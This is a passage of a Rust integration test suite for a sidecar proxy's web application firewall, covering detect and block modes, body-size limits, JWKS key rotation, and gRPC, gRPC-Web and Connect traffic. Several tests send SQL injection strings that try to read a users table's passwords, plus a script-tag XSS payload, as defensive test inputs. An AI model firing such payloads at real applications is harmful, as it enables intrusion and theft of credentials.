        assert_eq!((status, seen.body_bytes), (200, body.len()), "text in one frame");
    }
    let png = [&b"\x89PNG\r\n\x1a\n"[..], &[0u8; 100_000]].concat();
    let (status, body) = h2_post_as(&side, &caller, &[("content-type", "image/png")], &png).await;
    let seen: Seen = serde_json::from_str(&body).unwrap_or_else(|_| panic!("{status} {body}"));
    assert_eq!((status, seen.body_bytes), (200, png.len()), "an image");
    // Benign JSON, compressed or not, reaches the app as it was sent.
    let benign = r#"{"name":"O'Brien","note":"Select the blue one; deliver after 5 <pm> & ring twice","qty":2}"#;
    let answer =
        side.exchange("frontend", post_encoded("/orders", "application/json", "gzip", benign.as_bytes())).await;
    assert_eq!(answer.status, 200, "{answer:?} {:?}", side.events().last());
    assert_eq!(answer.seen().body_bytes, encode("gzip", benign.as_bytes()).len(), "still compressed");
    assert_eq!(answer.seen().header("content-encoding"), Some("gzip"));
    let answer = side.exchange("frontend", post("/orders", "text/plain", benign)).await;
    assert_eq!((answer.status, answer.seen().body_bytes), (200, benign.len()), "{answer:?}");

    // A caller that waits for `100 Continue` gets it from the sidecar, which reads the body
    // before the app could answer.
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let tcp = tokio::net::TcpStream::connect(side.sidecar.inbound).await.unwrap();
    let caller = side.pki.workload("frontend-expect", &id("shop", "frontend"));
    let connector = tokio_rustls::TlsConnector::from(std::sync::Arc::new(client_tls(Some(&caller))));
    let server = rustls::pki_types::ServerName::try_from("orders.shop").unwrap();
    let mut tls = connector.connect(server, tcp).await.unwrap();
    let head = post("/orders", "text/plain", XSS_JSON).replace("\r\n\r\n", "\r\nexpect: 100-continue\r\n\r\n");
    let (head, body) = head.split_once("\r\n\r\n").map(|(h, b)| (format!("{h}\r\n\r\n"), b.to_string())).unwrap();
    tls.write_all(head.as_bytes()).await.unwrap();
    let mut interim = [0u8; 25];
    tokio::time::timeout(std::time::Duration::from_secs(10), tls.read_exact(&mut interim))
        .await
        .expect("100 Continue before the body")
        .unwrap();
    assert!(interim.starts_with(b"HTTP/1.1 100 Continue\r\n\r\n"), "{:?}", String::from_utf8_lossy(&interim));
    tls.write_all(body.as_bytes()).await.unwrap();
    let mut rest = Vec::new();
    let _ = tokio::time::timeout(std::time::Duration::from_secs(10), tls.read_to_end(&mut rest)).await.unwrap();
    let rest = String::from_utf8_lossy(&rest);
    assert!(rest.starts_with("HTTP/1.1 403"), "{rest}");
    side.shutdown();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn detect_mode_reports_and_forwards_and_pass_forwards_big_bodies_unread() {
    let side = PolicedSidecar::start(&waf_policy("{mode: DETECT, inspectBodyBytes: 1024, bodyOverLimit: PASS}")).await;
    let answer = side.send("frontend", "GET", SQLI_QUERY, &[]).await;
    assert_eq!(answer.status, 200, "DETECT forwards: {answer:?}");
    assert_eq!(answer.seen().path, "/search", "{answer:?}");
    let answer = side.exchange("frontend", &post("/orders", "application/json", XSS_JSON)).await;
    assert_eq!(answer.status, 200, "{answer:?}");
    assert_eq!(answer.seen().body_bytes, XSS_JSON.len(), "the whole body reached the app");

    let big = format!(r#"{{"pad":"{}","x":"<script>alert(1)</script>"}}"#, "a".repeat(2000));
    let answer = side.exchange("frontend", &post("/orders", "application/json", &big)).await;
    assert_eq!(answer.status, 200, "bodyOverLimit: PASS: {answer:?}");
    assert_eq!(answer.seen().body_bytes, big.len());
    // The same JSON as text/plain, and a small gzip body that inflates past the limit: passed
    // on whole and counted, as the JSON body was.
    let answer = side.exchange("frontend", &post("/orders", "text/plain", &big)).await;
    assert_eq!((answer.status, answer.seen().body_bytes), (200, big.len()), "{answer:?}");
    let answer = side.exchange("frontend", post_encoded("/orders", "application/json", "gzip", big.as_bytes())).await;
    assert_eq!((answer.status, answer.seen().body_bytes), (200, encode("gzip", big.as_bytes()).len()), "{answer:?}");

    let metrics = side.metrics().await;
    assert_eq!(sample(&metrics, r#"palisade_waf_findings_total{action="detected",detector="sqli"}"#), 1.0, "{metrics}");
    assert_eq!(sample(&metrics, r#"palisade_waf_findings_total{action="detected",detector="xss"}"#), 1.0, "{metrics}");
    assert_eq!(sample(&metrics, "palisade_waf_uninspected_bodies_total"), 3.0, "{metrics}");
    side.events_where("DETECT reports the SQL injection it forwards", 1, |e| {
        e["message"].as_str().is_some_and(|m| m.starts_with("detected GET /search: sqli"))
    })
    .await;
    // Of no declared length (HTTP/2 in small pieces), found past the limit as it is read:
    // passed on too, what was read first.
    let caller = side.pki.workload("frontend-h2", &id("shop", "frontend"));
    let (status, seen) = h2_post(&side, &caller, &big).await;
    let seen: Seen = serde_json::from_str(&seen).unwrap_or_else(|e| panic!("{e}: {seen}"));
    assert_eq!((status, seen.body_bytes), (200, big.len()));
    let metrics = side.metrics().await;
    assert_eq!(sample(&metrics, "palisade_waf_uninspected_bodies_total"), 4.0, "{metrics}");
    side.shutdown();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_key_taken_out_of_the_jwks_file_is_revoked_and_a_key_put_in_is_taken_without_a_policy_change() {
    let (old, new) = (Signer::ec("ES256", "old"), Signer::ec("ES256", "new"));
    let dir = tempfile::tempdir().unwrap();
    let keys = dir.path().join("jwks.json");
    std::fs::write(&keys, jwks(&[&old])).unwrap();
    let side = sidecar_with_jwks_file(&keys, true).await;
    let status = async |signer: &Signer| {
        let bearer = format!("Bearer {}", signer.token(&claims("alice")));
        side.send("frontend", "GET", "/orders", &[("authorization", &bearer)]).await.status
    };
    assert_eq!(status(&old).await, 200);
    assert_eq!(status(&new).await, 401, "a key the file does not hold");
    let version = side.config_dump().await["policy"]["version"].clone();

    // Rotated as a mounted Secret is: the new set is renamed over the old one.
    let next = dir.path().join("jwks.json.next");
    std::fs::write(&next, jwks(&[&new])).unwrap();
    std::fs::rename(&next, &keys).unwrap();
    wait_for("the old key refused", async || status(&old).await == 401).await;
    assert_eq!(status(&new).await, 200, "the new key verifies");
    // Another version of the policy, as the events and metrics tell an operator.
    assert_ne!(side.config_dump().await["policy"]["version"], version);

    // A set that no longer parses is refused and the one in force stays.
    std::fs::write(&keys, "{\"keys\": [").unwrap();
    side.events_where("the broken key set rejected", 1, |e| {
        e["message"].as_str().is_some_and(|m| m.contains("rejected")) && e.to_string().contains("jwks.json")
    })
    .await;
    assert_eq!(status(&new).await, 200, "the last good key set stays");
    assert_eq!(status(&old).await, 401);

    // The last key taken out: an empty set, as an issuer publishes to revoke it, is a key set
    // like any other (it had been refused as a bad update, and the revoked key kept verifying).
    for revoked in ["{\"keys\": []}", "{\"keys\": [{\"kty\": \"oct\", \"kid\": \"x\", \"k\": \"AAAA\"}]}"] {
        let next = dir.path().join("jwks.json.next");
        std::fs::write(&next, revoked).unwrap();
        std::fs::rename(&next, &keys).unwrap();
        wait_for("the last key revoked", async || status(&new).await == 401).await;
        std::fs::write(&next, jwks(&[&new])).unwrap();
        std::fs::rename(&next, &keys).unwrap();
        wait_for("a key put back", async || status(&new).await == 200).await;
    }
    side.shutdown();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_body_longer_than_the_waf_reads_is_refused_only_by_a_blocking_waf_and_never_on_an_exempt_path() {
    let every = "[sqli, xss, path_traversal, command_injection, protocol]";
    let waf = |mode: &str| {
        format!(
            "{{mode: {mode}, inspectBodyBytes: 1024, exclusions: [{{paths: [\"/upload/*\"], detectors: {every}}}]}}"
        )
    };
    let big = format!(r#"{{"pad":"{}"}}"#, "a".repeat(5000));
    let upload = format!(
        "--b\r\ncontent-disposition: form-data; name=\"f\"; filename=\"p.png\"\r\n\r\n{}\r\n--b--\r\n",
        "x".repeat(5000)
    );
    let multipart = "multipart/form-data; boundary=b";

    let block = PolicedSidecar::start(&waf_policy(&waf("BLOCK"))).await;
    let answer = block.exchange("frontend", post("/orders", "application/json", &big)).await;
    assert_refused(&answer, 413, "payload_too_large", "over inspectBodyBytes under BLOCK");
    // The event names the setting that refused it, not maxBodyBytes (not set here).
    let events = block.events_where("the refusal reported", 1, |e| e.to_string().contains("inspectBodyBytes")).await;
    assert!(!events[0].to_string().contains("maxBodyBytes"), "{:?}", events[0]);
    // An upload path exempt from every detector: its body is not the WAF's to read.
    let answer = block.exchange("frontend", post("/upload/photo", multipart, &upload)).await;
    assert_eq!((answer.status, answer.seen().body_bytes), (200, upload.len()), "{answer:?}");
    block.shutdown();

    // DETECT refuses nothing: the body goes on uninspected, counted.
    let detect = PolicedSidecar::start(&waf_policy(&waf("DETECT"))).await;
    let answer = detect.exchange("frontend", post("/orders", "application/json", &big)).await;
    assert_eq!((answer.status, answer.seen().body_bytes), (200, big.len()), "{answer:?}");
    assert_eq!(sample(&detect.metrics().await, "palisade_waf_uninspected_bodies_total"), 1.0);
    detect.shutdown();
}

/// A file uploaded with no `Content-Type` (`curl -T`, Python's `requests.put(data=bytes)`, Go's
/// `http.Post(url, "", r)`) reaches the app whole at paranoia 1, whatever its size; it had been
/// read as a form and refused by the protocol detector (and over `inspectBodyBytes`, 413). A
/// text body with no type is still read as a form.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_binary_upload_with_no_type_reaches_the_app_and_a_text_one_is_still_read() {
    let s = PolicedSidecar::start(&waf_policy("{mode: BLOCK}")).await;
    let upload = |body: &[u8]| {
        let mut request = format!(
            "PUT /files/photo HTTP/1.1\r\nhost: orders.shop\r\nconnection: close\r\ncontent-length: {}\r\n\r\n",
            body.len()
        )
        .into_bytes();
        request.extend_from_slice(body);
        request
    };
    let mut x = 0x9e37_79b9_u32;
    let mut binary = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec();
    binary.extend((0..200_000).map(|_| {
        x ^= x << 13;
        x ^= x >> 17;
        x ^= x << 5;
        x as u8
    }));
    for size in [3_000, binary.len()] {
        let answer = s.exchange("frontend", upload(&binary[..size])).await;
        assert_eq!((answer.status, answer.seen().body_bytes), (200, size), "{size} bytes: {answer:?}");
    }
    let answer = s.exchange("frontend", upload(b"q=1%27%20UNION%20SELECT%20password%20FROM%20users--")).await;
    assert_refused(&answer, 403, "forbidden", "a form with no type");
    s.shutdown();
    // At paranoia 2 too, with no type or under an image's, longer than the WAF reads: each had
    // been read whole, and 413 past inspectBodyBytes. Text there is still read.
    let s = PolicedSidecar::start(&waf_policy("{mode: BLOCK, paranoia: 2}")).await;
    let typed = |content_type: &str, body: &[u8]| {
        let request = String::from_utf8(upload(b"")).unwrap();
        let mut request = request
            .replacen("connection: close\r\n", &format!("connection: close\r\ncontent-type: {content_type}\r\n"), 1)
            .replacen("content-length: 0", &format!("content-length: {}", body.len()), 1)
            .into_bytes();
        request.extend_from_slice(body);
        request
    };
    for request in [upload(&binary), typed("image/png", &binary)] {
        let answer = s.exchange("frontend", request).await;
        assert_eq!((answer.status, answer.seen().body_bytes), (200, binary.len()), "{answer:?}");
    }
    let answer = s.exchange("frontend", typed("text/plain", b"x' UNION SELECT password FROM users--")).await;
    assert_refused(&answer, 403, "forbidden", "text at paranoia 2");
    s.shutdown();
}

/// gRPC messages are binary: from paranoia 2 the WAF reads every text body, and read as text a
/// message's frame header was itself a finding, so every call was refused (and a streaming call
/// held back until its client ended it). A text body is still read at that level, whatever its
/// label says.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn grpc_messages_pass_a_waf_at_paranoia_two_that_still_reads_text_bodies() {
    let s = PolicedSidecar::start(&policy("waf", "  inputValidation:\n    waf: {mode: BLOCK, paranoia: 2}\n")).await;
    let client = s.https("frontend");
    let call = |content_type: &'static str, body: &'static [u8]| {
        client
            .post(s.url("/t.Echo/Unary"))
            .header("content-type", content_type)
            .header("te", "trailers")
            .body(body)
            .send()
    };
    let message: &[u8] = b"\x00\x00\x00\x00\x05hello";
    let answer = call("application/grpc", message).await.unwrap();
    assert_eq!((answer.status().as_u16(), answer.version()), (200, http::Version::HTTP_2));
    assert_eq!(call("application/grpc+proto", message).await.unwrap().status(), 200);
    // A text attack is read whatever it is labelled: gRPC, or a binary type.
    let attack: &[u8] = b"1' UNION SELECT password FROM users--";
    for label in ["text/plain", "application/octet-stream", "image/png"] {
        assert_eq!(call(label, attack).await.unwrap().status(), 403, "{label}");
    }
    // Under a gRPC label to an HTTP/2 app, a body that is no gRPC message is refused as such.
    let refused = call("application/grpc", attack).await.unwrap();
    assert_eq!((refused.status().as_u16(), refused.headers()["grpc-status"].to_str().unwrap()), (400, "13"));
    s.shutdown();
}

/// A real gRPC client and server (tonic, the standard health service) through a sidecar whose
/// WAF blocks: an ordinary call is answered, one with an attack in its message is refused
/// before the app sees it, and the client reads the refusal as `PERMISSION_DENIED` (HTTP 403, as
/// gRPC maps it).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_grpc_client_sees_an_attack_in_its_message_refused_as_permission_denied() {
    use tonic_health::pb::health_client::HealthClient;
    use tonic_health::pb::HealthCheckRequest;
    let (_reporter, app) = grpc_health_app(&["orders"]).await;
    let s = PolicedSidecar::start_with(&waf_policy("{mode: BLOCK}"), |c| c.inbound.app.0 = app).await;
    let channel = grpc_channel(s.sidecar.inbound, "orders.shop").await;
    let mut client = HealthClient::new(channel);
    let reply = client.check(HealthCheckRequest { service: "orders".into() }).await.unwrap();
    assert_eq!(reply.into_inner().status, tonic_health::pb::health_check_response::ServingStatus::Serving as i32);
    // Had the app seen it, the answer would be NOT_FOUND (no such service).
    let attack = HealthCheckRequest { service: "x' UNION SELECT password FROM users--".into() };
    let refused = client.check(attack.clone()).await.unwrap_err();
    assert_eq!(refused.code(), tonic::Code::PermissionDenied, "{refused:?}");
    s.events_where("the refusal", 1, |e| e.to_string().contains("grpc_field")).await;
    // The access log says what the caller read: PERMISSION_DENIED, beside the HTTP 403.
    let logged =
        eventually(async || read_jsonl(&s.access_log).iter().any(|l| l["status"] == 403 && l["grpc_status"] == 7))
            .await;
    assert!(logged, "{:?}", read_jsonl(&s.access_log));
    s.shutdown();
}

/// A gRPC call's own status, which an HTTP 200 hides: both sidecars' access logs carry it, from
/// the trailers of a call that answered and from the only header of one that failed at once
/// (outside tester o3: NOT_FOUND, INTERNAL and DEADLINE_EXCEEDED were logged as plain successes).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_grpc_calls_status_is_in_both_sidecars_access_logs() {
    use tonic_health::pb::health_client::HealthClient;
    use tonic_health::pb::HealthCheckRequest;
    let (_reporter, app) = grpc_health_app(&["orders"]).await;
    let dir = tempfile::tempdir().unwrap();
    let (log_a, log_b) = (dir.path().join("a.jsonl"), dir.path().join("b.jsonl"));
    let (sink_a, sink_b) = (log_a.clone(), log_b.clone());
    let pair = Pair::start_configured(
        EchoApp::start().await,
        |a| a.telemetry.access_log_sink = palisade::config::EventSink::File(sink_a),
        |b| {
            b.inbound.app.0 = app;
            b.telemetry.access_log_sink = palisade::config::EventSink::File(sink_b);
        },
    )
    .await;
    let channel = grpc_channel(pair.a.outbound, B_AUTHORITY).await;
    let mut client = HealthClient::new(channel);
    client.check(HealthCheckRequest { service: "orders".into() }).await.unwrap();
    let missing = client.check(HealthCheckRequest { service: "billing".into() }).await.unwrap_err();
    assert_eq!(missing.code(), tonic::Code::NotFound, "{missing:?}");
    for (side, log) in [("a", &log_a), ("b", &log_b)] {
        let statuses = || {
            let mut seen: Vec<(Value, Value)> = read_jsonl(log)
                .into_iter()
                .filter(|l| l["path"] == "/grpc.health.v1.Health/Check")
                .map(|l| (l["status"].clone(), l["grpc_status"].clone()))
                .collect();
            seen.sort_by_key(|(_, g)| g.as_u64());
            seen
        };
        let logged = eventually(async || statuses().len() == 2).await;
        assert!(logged, "{side}: {:?}", read_jsonl(log));
        assert_eq!(statuses(), vec![(json!(200), json!(0)), (json!(200), json!(5))], "{side}: {:?}", read_jsonl(log));
    }
    pair.shutdown();
}

/// A gRPC stream whose app goes away mid-answer (it crashed; or a peer sidecar's drain ended):
/// the caller reads the messages so far and then `UNAVAILABLE` in trailers, which gRPC's retry
/// policies retry; the reset it got read as `CANCELLED`, as if the caller had cancelled
/// (outside tester o3).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_grpc_answer_the_app_breaks_off_ends_unavailable_not_cancelled() {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let app = listener.local_addr().unwrap();
    tokio::spawn(async move {
        let (tcp, _) = listener.accept().await.unwrap();
        let mut connection = h2::server::handshake(tcp).await.unwrap();
        let Some(Ok((_request, mut respond))) = connection.accept().await else { return };
        let head = http::Response::builder().header("content-type", "application/grpc").body(()).unwrap();
        let mut stream = respond.send_response(head, false).unwrap();
        stream.send_data(bytes::Bytes::from(grpc_frame(&proto_string(1, b"first"))), false).unwrap();
        // Let the message out, then go away as a crashed app does: the connection closes.
        let _ = tokio::time::timeout(std::time::Duration::from_millis(200), connection.accept()).await;
        drop(stream);
        drop(connection);
    });
    let (s, mut client) = sidecar_of_h2_app(app, &waf_policy("{mode: BLOCK}")).await;
    let request = http::Request::post("http://orders.shop/t.T/Stream")
        .header("content-type", "application/grpc")
        .header("te", "trailers")
        .body(())
        .unwrap();
    let (answer, mut send) = client.send_request(request, false).unwrap();
    send.send_data(bytes::Bytes::from(grpc_frame(&proto_string(1, b"hello"))), true).unwrap();
    let answer = answer.await.unwrap();
    assert_eq!(answer.status(), 200);
    let mut body = answer.into_body();
    let mut got = Vec::new();
    while let Some(piece) = body.data().await {
        got.extend_from_slice(&piece.expect("the stream ends with trailers, not a reset"));
    }
    assert_eq!(got, grpc_frame(&proto_string(1, b"first")), "the message the app sent");
    let trailers = body.trailers().await.expect("trailers, not a reset").expect("trailers");
    assert_eq!(trailers["grpc-status"], "14", "{trailers:?}");
    assert!(trailers["grpc-message"].to_str().unwrap().starts_with("bad_gateway (request id "), "{trailers:?}");
    s.shutdown();
}

/// gRPC-Web as a browser's client sends it (over HTTP/1.1; the frames in base64 in grpc-web's
/// default text mode, or binary) to a real gRPC-Web server (tonic-web): an ordinary call is
/// answered, one with an attack is refused before the app sees it, as `PERMISSION_DENIED`, and
/// text that is not base64 is refused. Both forms had gone unread to an HTTP/1.1 app.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn grpc_web_calls_over_http1_are_read_in_text_and_binary_form() {
    use base64::Engine as _;
    let (_reporter, app) = grpc_web_health_app(&["orders"]).await;
    let s = PolicedSidecar::start_with(&waf_policy("{mode: BLOCK}"), |c| c.inbound.app.0 = app).await;
    let call = |content_type: &str, service: &[u8]| {
        let frame = grpc_frame(&proto_string(1, service));
        let body = match content_type.contains("text") {
            true => base64::engine::general_purpose::STANDARD.encode(frame).into_bytes(),
            false => frame,
        };
        let mut request = format!(
            "POST /grpc.health.v1.Health/Check HTTP/1.1\r\nhost: orders.shop\r\nconnection: close\r\n\
             content-type: {content_type}\r\naccept: {content_type}\r\nx-grpc-web: 1\r\ncontent-length: {}\r\n\r\n",
            body.len()
        )
        .into_bytes();
        request.extend_from_slice(&body);
        s.exchange("frontend", request)
    };
    let attack = b"x' UNION SELECT password FROM users--";
    for content_type in ["application/grpc-web-text", "application/grpc-web+proto"] {
        // The app reads what goes on: SERVING for a service it has, NOT_FOUND for another.
        let answer = call(content_type, b"orders").await;
        assert_eq!((answer.status, grpc_web_status(&answer)), (200, "0".into()), "{content_type}: {answer:?}");
        let answer = call(content_type, b"payments").await;
        assert_eq!((answer.status, grpc_web_status(&answer)), (200, "5".into()), "{content_type}: {answer:?}");
        let refused = call(content_type, attack).await;
        assert_eq!((refused.status, refused.header("grpc-status")), (403, Some("7")), "{content_type}: {refused:?}");
    }
    s.events_where("the refusals", 2, |e| e.to_string().contains("grpc_field")).await;
    let not_base64 = s
        .exchange(
            "frontend",
            "POST /grpc.health.v1.Health/Check HTTP/1.1\r\nhost: orders.shop\r\nconnection: close\r\n\
             content-type: application/grpc-web-text\r\ncontent-length: 12\r\n\r\nAAAA AAUKA2Zv",
        )
        .await;
    assert_eq!((not_base64.status, not_base64.header("grpc-status")), (400, Some("13")), "{not_base64:?}");
    // One event for one refusal: named for what it was, not followed by one for a body that
    // "could not be read".
    let named = |e: &serde_json::Value| e.to_string().contains("grpc-web-text-not-base64");
    let refused = s.events_where("the refusal's event", 1, named).await;
    let id = refused[0]["http_request"]["uid"].as_str().unwrap().to_string();
    // Events are written in order: once a later request's is there, any second one is too.
    assert_eq!(call("application/grpc-web+proto", attack).await.status, 403);
    s.events_where("the later refusal", 3, |e| e.to_string().contains("grpc_field")).await;
    let same = s.events().into_iter().filter(|e| e["http_request"]["uid"] == id.as_str()).count();
    assert_eq!(same, 1, "{:#?}", s.events());
    s.shutdown();
}

/// Connect's calls over HTTP/1.1 (connect-go serves them beside gRPC and gRPC-Web): a unary
/// call's bare protobuf body, and a streaming call's framed messages, compressed as Connect's
/// own header says, are read; an ordinary one reaches the app whole.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn connect_calls_and_protobuf_bodies_are_read_and_ordinary_ones_reach_the_app_whole() {
    // An app spoken to over HTTP/1.1 whatever the caller speaks (gRPC-Web and Connect servers
    // often are: browsers reach them so).
    let s = PolicedSidecar::start_with(&waf_policy("{mode: BLOCK}"), |c| {
        c.inbound.app_protocol = palisade::config::AppProtocol::Http1
    })
    .await;
    let call = |content_type: &str, extra: &str, body: &[u8]| {
        let mut request = format!(
            "POST /shop.v1.Orders/Find HTTP/1.1\r\nhost: orders.shop\r\nconnection: close\r\n\
             content-type: {content_type}\r\n{extra}content-length: {}\r\n\r\n",
            body.len()
        )
        .into_bytes();
        request.extend_from_slice(body);
        s.exchange("frontend", request)
    };
    let attack = proto_string(2, &proto_string(1, b"x' UNION SELECT password FROM users--"));
    let ordinary = [proto_string(1, b"order 42"), vec![0x10, 0x2a]].concat();
    for content_type in ["application/proto", "application/x-protobuf"] {
        assert_refused(&call(content_type, "", &attack).await, 403, "forbidden", content_type);
        let answer = call(content_type, "", &ordinary).await;
        assert_eq!((answer.status, answer.seen().body_bytes), (200, ordinary.len()), "{content_type}");
    }
    // Longer than the WAF reads: protobuf goes on unread (a telemetry receiver drops what a 4xx
    // answers), JSON under the same label is refused as JSON is.
    let mut batch = Vec::new();
    while batch.len() < 70_000 {
        batch.extend(&ordinary);
    }
    let answer = call("application/x-protobuf", "", &batch).await;
    assert_eq!((answer.status, answer.seen().body_bytes), (200, batch.len()));
    let long_json = format!("{{\"q\": \"{}\"}}", "a".repeat(70_000));
    assert_refused(&call("application/x-protobuf", "", long_json.as_bytes()).await, 413, "payload_too_large", "JSON");
    // A unary GET carries its message in the query, base64.
    {
        use base64::Engine as _;
        let message = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(&attack);
        let get = format!(
            "GET /shop.v1.Orders/Find?connect=v1&encoding=proto&base64=1&message={message} HTTP/1.1\r\n\
             host: orders.shop\r\nconnection: close\r\n\r\n"
        );
        assert_refused(&s.exchange("frontend", get).await, 403, "forbidden", "a Connect GET");
    }
    let gzip = |bytes: &[u8]| encode("gzip", bytes);
    let compressed = [vec![1], (gzip(&attack).len() as u32).to_be_bytes().to_vec(), gzip(&attack)].concat();
    let header = "connect-content-encoding: gzip\r\n";
    assert_refused(&call("application/connect+proto", header, &compressed).await, 403, "forbidden", "streaming");
    let stream = [grpc_frame(&ordinary), grpc_frame(&ordinary)].concat();
    let answer = call("application/connect+proto", "", &stream).await;
    assert_eq!((answer.status, answer.seen().body_bytes), (200, stream.len()));
    s.events_where("the refusals", 4, |e| e.to_string().contains("grpc_field")).await;

    // From an HTTP/2 caller, as every peer sidecar is, an HTTP/1.1 app is served on the
    // sidecar's own path: a body of declared length is held whole, one of none streams. Both had
    // gone there unread.
    use base64::Engine as _;
    let caller = s.pki.workload("frontend-h2", &id("shop", "frontend"));
    let text = |frames: &[u8]| base64::engine::general_purpose::STANDARD.encode(frames).into_bytes();
    let attack_call = grpc_frame(&attack);
    let web_text = [("content-type", "application/grpc-web-text")];
    let web = [("content-type", "application/grpc-web+proto")];
    let connect = [("content-type", "application/connect+proto")];
    for (headers, body) in [(&web_text, text(&attack_call)), (&web, attack_call.clone()), (&connect, attack_call)] {
        let length = body.len().to_string();
        let declared = [headers[0], ("content-length", &length)];
        for (frames, held) in [(Frames::One, &declared[..]), (Frames::Pieces, &headers[..])] {
            let (status, answer) = h2_post_in(&s, &caller, held, &body, frames).await;
            assert_eq!(status, 403, "{held:?}: {answer}");
        }
    }
    let ordinary_text = text(&stream);
    let (status, answer) = h2_post_in(&s, &caller, &web_text, &ordinary_text, Frames::Pieces).await;
    assert_eq!(status, 200, "{answer}");
    let seen: Seen = serde_json::from_str(&answer).unwrap();
    assert_eq!(seen.body_bytes, ordinary_text.len(), "as it was sent");
    let (status, answer) = h2_post_in(&s, &caller, &web_text, b"AAAA AAUKA2Zv", Frames::Pieces).await;
    assert_eq!(status, 400, "not base64: {answer}");
    s.events_where("the refusals over HTTP/2", 10, |e| e.to_string().contains("grpc_field")).await;
    s.shutdown();
}

/// The status of a gRPC-Web answer: in its head (an answer with no message), or in the trailer
/// frame that ends its body (flag 0x80), base64 in the text form.
fn grpc_web_status(answer: &Answer) -> String {
    use base64::Engine as _;
    if let Some(status) = answer.header("grpc-status") {
        return status.to_string();
    }
    let text = answer.header("content-type").is_some_and(|t| t.contains("text"));
    let body = match text {
        // Each frame may be its own padded segment: a group of four at a time.
        true => answer
            .body
            .as_bytes()
            .chunks(4)
            .flat_map(|group| {
                base64::engine::general_purpose::STANDARD
                    .decode(group)
                    .unwrap_or_else(|e| panic!("{e}: {}", answer.body))
            })
            .collect(),
        false => answer.body.as_bytes().to_vec(),
    };
    let trailers = String::from_utf8_lossy(&body);
    let at = trailers.find("grpc-status:").unwrap_or_else(|| panic!("no grpc-status in {trailers:?}"));
    trailers[at + 12..].chars().take_while(char::is_ascii_digit).collect()
}

/// A gRPC message framed as `[flag, length (4 bytes, big-endian), message]`.
fn grpc_frame(message: &[u8]) -> Vec<u8> {
    let mut frame = vec![0];
    frame.extend((message.len() as u32).to_be_bytes());
    frame.extend_from_slice(message);
    frame
}

/// A protobuf string field (a length under 128).
fn proto_string(field: u8, text: &[u8]) -> Vec<u8> {
    let mut f = vec![field << 3 | 2, text.len() as u8];
    f.extend_from_slice(text);
    f
}

/// A refusal of a gRPC call: the HTTP status, and `<grpc-status>: <error>` after checking that
/// its `grpc-message` names the request id it carries, and that the trailers after the JSON body
/// say the same (grpc-core reads a status only there).
async fn grpc_refusal(answer: http::Response<h2::RecvStream>) -> (u16, String) {
    let header = |name: &str| answer.headers()[name].to_str().unwrap().to_string();
    let message = header("grpc-message");
    let (code, id) = message.split_once(" (request id ").unwrap_or_else(|| panic!("{message}"));
    assert_eq!(id, format!("{})", header("x-request-id")));
    let refusal = (answer.status().as_u16(), format!("{}: {code}", header("grpc-status")));
    let (head, mut body) = answer.into_parts();
    let mut json = Vec::new();
    while let Some(piece) = body.data().await {
        json.extend_from_slice(&piece.unwrap());
    }
    let json: serde_json::Value = serde_json::from_slice(&json).unwrap();
    assert_eq!(json["request_id"], head.headers["x-request-id"].to_str().unwrap());
    let trailers = body.trailers().await.unwrap().expect("trailers after the body");
    assert_eq!(trailers["grpc-status"], head.headers["grpc-status"]);
    assert_eq!(trailers["grpc-message"], head.headers["grpc-message"]);
    refusal
}

/// What an HTTP/2 app got of each call: its body's bytes as they came, and how the body ended.
#[derive(Debug)]
enum AppHeard {
    Bytes(Vec<u8>),
    Ended,
    Reset,
}

/// An HTTP/2 app (gRPC without a schema) that reports each piece of every request body as it
/// comes and answers 200 (`grpc-status: 0` in trailers) once the body has ended.
async fn reporting_h2_app() -> (std::net::SocketAddr, tokio::sync::mpsc::UnboundedReceiver<AppHeard>) {
    reporting_h2_app_answering(false).await
}

/// [`reporting_h2_app`]; with `at_once`, as a bidirectional stream's server answers: its head
/// and a first message as soon as a call comes, the rest once the call's body has ended.
async fn reporting_h2_app_answering(
    at_once: bool,
) -> (std::net::SocketAddr, tokio::sync::mpsc::UnboundedReceiver<AppHeard>) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let (heard, reports) = tokio::sync::mpsc::unbounded_channel();
    tokio::spawn(async move {
        loop {
            let (tcp, _) = listener.accept().await.unwrap();
            let heard = heard.clone();
            tokio::spawn(async move {
                let mut connection = h2::server::handshake(tcp).await.unwrap();
                while let Some(Ok((request, mut respond))) = connection.accept().await {
                    let heard = heard.clone();
                    tokio::spawn(async move {
                        let mut body = request.into_body();
                        let head = || http::Response::builder().header("content-type", "application/grpc").body(());
                        let mut answering = match at_once {
                            true => respond.send_response(head().unwrap(), false).ok(),
                            false => None,
                        };
                        if let Some(stream) = answering.as_mut() {
                            let _ = stream.send_data(bytes::Bytes::from(grpc_frame(&proto_string(1, b"hello"))), false);
                        }
                        loop {
                            match body.data().await {
                                Some(Ok(bytes)) => {
                                    let _ = body.flow_control().release_capacity(bytes.len());
                                    let _ = heard.send(AppHeard::Bytes(bytes.to_vec()));
                                }
                                Some(Err(_)) => {
                                    let _ = heard.send(AppHeard::Reset);
                                    return;
                                }
                                None => break,
                            }
                        }
                        let _ = heard.send(AppHeard::Ended);
                        if let Some(mut stream) =
                            answering.or_else(|| respond.send_response(head().unwrap(), false).ok())
                        {
                            let mut trailers = http::HeaderMap::new();
                            trailers.insert("grpc-status", http::HeaderValue::from_static("0"));
                            let _ = stream.send_trailers(trailers);
                        }
                    });
                }
            });
        }
    });
    (addr, reports)
}

/// A sidecar whose WAF blocks, in front of `app` spoken to over HTTP/2, and an HTTP/2 client of it
/// (plaintext, as a gRPC client in the pod).
async fn blocking_sidecar_of_h2_app(
    app: std::net::SocketAddr,
) -> (PolicedSidecar, h2::client::SendRequest<bytes::Bytes>) {
